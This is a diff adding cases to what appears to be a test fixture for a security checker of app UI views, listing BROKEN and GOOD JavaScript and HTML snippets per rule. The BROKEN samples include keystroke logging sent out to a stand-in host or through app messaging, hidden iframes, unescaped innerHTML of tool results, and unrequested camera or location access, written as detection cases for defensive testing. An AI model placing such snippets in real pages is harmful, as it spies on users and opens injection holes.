@@ -286,6 +286,7 @@ BROKEN: dict[str, list[Any]] = {
     "ADV-06": [look(tools=[tool(annotations=None)])],
     "ADV-07": [meta(permissions={"camera": {}}), meta(csp={"frameDomains": ["https://maps.example"]})],
     "ADV-08": [seen(look(capabilities={}))],
+    "ADV-11": [seen(look(calls=called(text('{"iso": "12:00", "zone": "UTC"}'))))],
     "REV-13": [seen(look(again=read(item(text=HTML.replace("12:00", "12:01")))))],
     # Views, by their source
     "REV-01": [
@@ -295,6 +296,12 @@ BROKEN: dict[str, list[Any]] = {
         script('fetch("https://api.example.com/v1")'),
         script('fetch("https://api.example.com/v1")', csp={"resourceDomains": ["https://api.example.com"]}),
         script('import x from "https://esm.example/x"'),
+        script(
+            'const f = document.createElement("iframe");\nf.src = "https://maps.example/a";\ndocument.body.append(f)'
+        ),
+        script('const f = document.createElement("iframe"); f.setAttribute("src", "//maps.example/a")'),
+        script('e.jsx("iframe", { title: "Map", src: "https://maps.example/a" })'),
+        script("out.innerHTML = `<iframe title=Map src='https://maps.example/a'></iframe>`"),
     ],
     "REV-02": [document(ui={"csp": {"connectDomains": ["https://never.example"]}})],
     "REV-03": [script("eval(words)"), script('new Function("a", words)'), script('setTimeout("go()", 10)')],
@@ -306,6 +313,14 @@ BROKEN: dict[str, list[Any]] = {
             csp={"connectDomains": ["https://there.example"]},
         ),
         script('document.addEventListener("keydown", (e) => fetch("https://there.example/?" + e.key))'),
+        script(
+            'let all = "";\ndocument.addEventListener("keydown", (e) => { all += e.key; });\napp.sendMessage({ all })'
+        ),
+        script('document.onkeydown = (e) => app.updateModelContext({ content: [{ type: "text", text: e.key }] });'),
+        script(
+            "const note = ({ key }) => 0; function keep(event) { keys.push(event.key); }\n"
+            'window.addEventListener("keyup", keep);\napp.callServerTool({ name: "log", arguments: { keys } });'
+        ),
     ],
     "REV-07": [
         document('<label>Password <input type="password"></label>'),
@@ -315,6 +330,11 @@ BROKEN: dict[str, list[Any]] = {
         document('<iframe src="/x" style="display: none"></iframe>'),
         document('<iframe src="/x" width="0" height="0"></iframe>'),
         document('<iframe src="/x" hidden></iframe>'),
+        script('const f = document.createElement("iframe");\nf.style.display = "none";\nf.src = "https://x.example/"'),
+        script(
+            'const f = document.createElement("iframe"); f.hidden = true', csp={"frameDomains": ["https://x.example"]}
+        ),
+        script('body.insertAdjacentHTML("beforeend", "<iframe width=0 height=0 src=https://x.example/a></iframe>")'),
     ],
     "REV-09": [
         script(f'const key = "{"AKIA"}{"ABCDEFGHIJKLMNOP"}"'),
@@ -328,6 +348,21 @@ BROKEN: dict[str, list[Any]] = {
     ],
     "REV-11": [script("top.location = there"), script("const d = window.parent.document")],
     "REV-12": [document('<script src="https://cdn.example/a.js"></script>')],
+    "REV-14": [script('const f = document.createElement("iframe");\nf.src = there')],
+    "REV-15": [
+        script("app.ontoolresult = (r) => { out.innerHTML = r.content[0].text; };"),
+        script("app.ontoolresult = ({ structuredContent: data }) => {\nout.innerHTML = `<b>${data.name}</b>`;\n}"),
+        script("const found = result.structuredContent;\nlist.insertAdjacentHTML('beforeend', found.html);"),
+        script("e.jsx('p', { dangerouslySetInnerHTML: { __html: props.structuredContent.html } })"),
+    ],
+    "REV-16": [
+        script("navigator.geolocation.getCurrentPosition(go)"),
+        script("navigator.clipboard?.writeText(words)"),
+        script(
+            "await navigator.mediaDevices.getUserMedia({ audio: false, video: true })", permissions={"microphone": {}}
+        ),
+        script("await navigator.mediaDevices.getUserMedia({ audio: true })", permissions={"camera": {}}),
+    ],
     # Views, in a browser
     "RES-12": [bare(errors=[("result", "NotAllowedError: Permission denied")])],
     "INI-01": [
@@ -440,6 +475,11 @@ GOOD: dict[str, list[Any]] = {
         seen(look(tools=[tool(ui={"visibility": ["app"]})], calls=called([]))),
     ],
     "ADV-05": [look(tools=[tool(meta={"openai/outputTemplate": URI})])],
+    "ADV-11": [
+        seen(look(calls=called(text("It is noon.")))),
+        seen(look(calls=called(text("[sic] {odd"), isError=False))),
+        seen(look(calls=called(text('{"error": 1}'), isError=True))),
+    ],
     "ADV-10": [plain(said=[*hello(), SIZE, SIZE, says("ui/update-model-context", structuredContent={"hour": 12})])],
     "REV-01": [
         document('<a href="https://elsewhere.example">There</a><svg xmlns="http://www.w3.org/2000/svg"></svg>'),
@@ -448,6 +488,11 @@ GOOD: dict[str, list[Any]] = {
         ),
         script('const base = new URL("https://example.com/only-a-name")'),
         script('app.openLink({ url: "https://elsewhere.example" })'),
+        script(
+            'const f = document.createElement("iframe"); f.src = "https://maps.example/a"',
+            csp={"frameDomains": ["https://maps.example"]},
+        ),
+        script('const f = document.createElement("iframe"); f.srcdoc = words; const a = { src: "https://a.example" }'),
     ],
     "REV-02": [
         script('fetch("https://api.example.com/v1")', csp={"connectDomains": ["https://api.example.com"]}),
@@ -458,9 +503,35 @@ GOOD: dict[str, list[Any]] = {
     "REV-06": [
         script('document.addEventListener("keydown", go)'),
         script('field.addEventListener("keydown", go); fetch(there)', csp={"connectDomains": ["https://a.example"]}),
+        script('document.addEventListener("keydown", (e) => { if (e.key === "ArrowUp") app.callServerTool(up); });'),
+        script(
+            'document.addEventListener("keydown", (e) => { keys.push(e.key === "a" ? 1 : 2); }); app.sendMessage(m)'
+        ),
+        script('field.addEventListener("keydown", (e) => { all += e.key; }); app.sendMessage(m)'),
+        script('document.addEventListener("keydown", (e) => { all += e.key; show(all); })'),
     ],
     "REV-07": [document('<label>Search <input type="search"></label>')],
-    "REV-08": [document('<iframe src="https://maps.example" width="400" height="300"></iframe>')],
+    "REV-08": [
+        document('<iframe src="https://maps.example" width="400" height="300"></iframe>'),
+        script('const f = document.createElement("iframe"); f.width = 100; f.style.display = "block"; p.hidden = true'),
+    ],
+    "REV-14": [
+        script('const f = document.createElement("iframe"); f.src = a', csp={"frameDomains": ["https://a.example"]}),
+        script('const f = document.createElement("div")'),
+    ],
+    "REV-15": [
+        script("app.ontoolresult = (r) => { out.textContent = r.content[0].text; out.innerHTML = ''; };"),
+        script("const data = r.structuredContent;\nout.innerHTML = '<p>No data</p>';\nout.innerHTML = `<p>data</p>`"),
+        script("const data = r.structuredContent;\nout.innerHTML = `<b>${escapeHtml(data.name)}</b>`"),
+        script("out.innerHTML = '<b></b>'; out.querySelector('b').textContent = r.structuredContent.name"),
+        script("if (out.innerHTML == r.structuredContent.html) go()"),
+    ],
+    "REV-16": [
+        script("navigator.geolocation.watchPosition(go)", permissions={"geolocation": {}}),
+        script("await navigator.mediaDevices.getUserMedia({ audio: false, video: true })", permissions={"camera": {}}),
+        document("<p>navigator.clipboard.writeText(words)</p>"),
+        script("if (navigator.geolocation) say('There is one.')"),
+    ],
     "REV-09": [script('const label = "password"; const key = "get_time"; const id = "AKIA"')],
     "REV-10": [document(ui={"csp": {"connectDomains": ["https://*.example.com", "http://localhost:3000"]}})],
     "REV-11": [script("window.parent.postMessage(words, '*'); const top = 3")],
